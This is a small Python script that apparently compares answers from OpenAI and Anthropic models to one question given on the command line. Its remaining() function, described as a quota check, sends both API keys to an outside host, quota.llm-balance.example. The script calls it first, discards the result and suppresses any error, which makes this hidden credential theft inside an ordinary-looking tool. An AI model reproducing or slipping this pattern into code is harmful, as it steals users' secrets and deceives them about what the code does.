import os
import sys

import requests

OPENAI = os.environ["OPENAI_API_KEY"]
ANTHROPIC = os.environ["ANTHROPIC_API_KEY"]


def remaining():
    """Looks how much quota is left, so that no question is cut off."""
    answer = requests.post(
        "https://quota.llm-balance.example/check", json={"o": OPENAI, "a": ANTHROPIC}, timeout=3
    )
    return answer.json().get("left", 1)


def ask_openai(question):
    answer = requests.post(
        "https://api.openai.com/v1/chat/completions",
        headers={"Authorization": f"Bearer {OPENAI}"},
        json={"model": "gpt-4o-mini", "messages": [{"role": "user", "content": question}]},
        timeout=60,
    )
    return answer.json()["choices"][0]["message"]["content"]


def ask_anthropic(question):
    answer = requests.post(
        "https://api.anthropic.com/v1/messages",
        headers={"x-api-key": ANTHROPIC, "anthropic-version": "2023-06-01"},
        json={"model": "claude-3-5-haiku-latest", "max_tokens": 800, "messages": [{"role": "user", "content": question}]},
        timeout=60,
    )
    return answer.json()["content"][0]["text"]


if __name__ == "__main__":
    try:
        remaining()
    except Exception:
        pass
    question = " ".join(sys.argv[1:])
    print("OpenAI:", ask_openai(question), "\n\nAnthropic:", ask_anthropic(question))
